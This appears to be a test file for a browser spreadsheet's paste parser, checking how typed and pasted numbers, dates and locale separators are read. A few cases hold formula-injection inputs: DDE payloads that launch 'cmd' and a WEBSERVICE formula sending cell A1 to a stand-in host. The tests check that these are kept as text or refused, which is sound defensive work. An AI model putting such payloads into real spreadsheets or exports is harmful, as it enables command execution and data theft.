/** How typed and pasted text is read, in English and by the system's or the copying program's settings. */
import { copiedFormat, systemFormat } from "../../../src/browser-workbook/paste/locale-format";
import { readPlainTable } from "../../../src/browser-workbook/paste/plain-table";
import { inspectFormula, problemIn } from "../../../src/formula/grid-check";
import { readTypedText } from "../../../src/browser-workbook/paste/typed-text";

const english = systemFormat("en-US");
const german = systemFormat("de-DE");

test.each([
  ["1234", 1234, undefined],
  ["-3.5", -3.5, undefined],
  ["\u22123.5", -3.5, undefined],
  [".5", 0.5, undefined],
  ["1,234.50", 1234.5, "#,##0.00"],
  ["1,234", 1234, "#,##0"],
  ["5%", 0.05, "0%"],
  ["12.5 %", 0.125, "0.0%"],
  ["1E+3", 1000, undefined],
  ["1.5e-3", 0.0015, undefined],
  ["2026-11-20", 46346, "yyyy-mm-dd"],
  ["2026-11-20 12:00", 46346.5, "yyyy-mm-dd hh:mm"],
  ["11/20/2026", 46346, "m/d/yyyy"],
  ["true", true, undefined],
])("%s is taken for a value", (text, value, numberFormat) => {
  expect(readTypedText(text, english)).toEqual({
    value,
    ...(numberFormat !== undefined && { numberFormat }),
  });
});

test.each([
  "00012345678905",
  "1234567890123456",
  "00.5",
  "0,123",
  "1,2",
  "12,34,567",
  "1.",
  "+5",
  "1-2",
  "20/13/2026",
  "2026-02-30",
  "2026-11-20 25:99",
  "2026-11-20 12:60",
  "11/20/26",
  "20.11.2026",
  "5 PM",
  "12:30",
  "$1,234.50",
  "1.99 €",
  "R$ 5",
  "5 CHF",
  "(3)",
  "(555)1234567",
  "12a",
  "=",
  "-",
  "--5",
  "1.2.3",
  "#N/A",
])("%s stays text", (text) => {
  expect(readTypedText(text, english)).toEqual({ value: text });
});

test.each([`$${" ".repeat(400)}x`, `0.${"1".repeat(63)}`])(
  "text that is longer than any number stays text: %s",
  (text) => {
    expect(readTypedText(text, english)).toEqual({ value: text });
  },
);

test.each([
  ["05/11/2026", "en-GB", 46331, "dd/mm/yyyy"],
  ["05/11/2026 18:00", "en-US", 46153.75, "mm/dd/yyyy hh:mm"],
  ["20.11.2026", "de-DE", 46346, "d.m.yyyy"],
  ["2026. 11. 20.", "ko-KR", 46346, "yyyy.m.dd"],
  ["20-11-2026", "nl-NL", 46346, "d-m-yyyy"],
])("reads the date %s in the order of %s", (text, language, value) => {
  expect(readTypedText(text, systemFormat(language)).value).toBe(value);
});

test.each(["ar-EG", "ar", "fa-IR", "de-CH", "fr-FR", "en-IN", "hi-IN", "sv-SE", "es-ES", "pl-PL", "tr-TR"])(
  "reads back what cells show in %s, and what the language itself writes",
  (language) => {
    const format = systemFormat(language);
    // Cells show the digits 0 to 9 in groups of three.
    const shown = `-12${format.group}345${format.group}678${format.decimal}25`;
    expect(readTypedText(shown, format).value).toBe(-12_345_678.25);
    const written = new Intl.NumberFormat(language, { minimumFractionDigits: 2 }).format(-12_345_678.25);
    expect(readTypedText(written, format).value).toBe(-12_345_678.25);
  },
);

test.each(["=B3*2", " =SUM(A1:A9)"])("%s is a formula", (text) => {
  expect(readTypedText(text, english)).toEqual({ value: text.trim(), isFormula: true });
});

test.each(["+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(cmd|'/c calc'!A0)"])("%s stays text", (text) => {
  expect(readTypedText(text, english)).toEqual({ value: text });
});

// The workbook in these tests has no sheet and no name.
const nowhere = {
  isFunction: () => true,
  formulaOf: () => null,
  hasSheet: () => false,
  alike: () => null,
};

test.each([
  '=IMAGE("http://x/a.png")',
  ' =WEBSERVICE("http://x/"&A1)',
  "=SUM(cmd|'/c calc'!A0)",
  "=[1]Plan!A1",
])("%s reaches outside the workbook, so the grid refuses the formula", (text) => {
  const { value, isFormula } = readTypedText(text, english);
  expect(isFormula).toBe(true);
  expect(problemIn(inspectFormula(String(value)), nowhere)).not.toBeNull();
});

test.each([
  ["1.234,50", 1234.5],
  ["1,234", 1.234],
  ["1.234", 1234],
  ["0,5", 0.5],
  ["12,5 %", 0.125],
  ["20.11.2026", 46346],
  // These are numbers in English alone.
  ["1,234.50", "1,234.50"],
  ["1.5", "1.5"],
  ["00012345678905", "00012345678905"],
])("%s is read as a German system reads it", (text, value) => {
  expect(readTypedText(text, german).value).toBe(value);
});

test("marks pasted ####, 1.23E+13 and 1E+13 as cut off, and no other number with an exponent", () => {
  const rows = [...readPlainTable("########\t1.23457E+13\t1E+13\r\n-1.2E+05\t1E+3\t1E13", english)];
  expect(rows.map((row) => row.map(({ isCutOff }) => isCutOff === true))).toEqual([
    [true, true, true],
    [true, false, false],
  ]);
});

test.each([
  [String.raw`"\,"`, String.raw`"\."`, { decimal: ",", group: "." }, "1.234,50"],
  [String.raw`"\,"`, String.raw`"\00a0"`, { decimal: ",", group: "\u00a0" }, "1\u00a0234,50"],
  [`"\\."`, `"’"`, { decimal: ".", group: "’" }, null],
])("reads a copy by Excel's separators %s and %s", (decimal, thousands, expected, text) => {
  const html = `<style>table\n\t{mso-displayed-decimal-separator:${decimal};\n\tmso-displayed-thousand-separator:${thousands};}</style>`;
  const format = copiedFormat(html);
  expect(format).toMatchObject(expected);
  if (text !== null) expect(readTypedText(text, format).value).toBe(1234.5);
  // A German 1.234 under an English browser is 1234, and its dates begin with the day.
  if (thousands === String.raw`"\."`) expect(readTypedText("20.11.2026", format).value).toBe(46346);
  expect(copiedFormat("<table></table>")).toEqual(systemFormat());
});
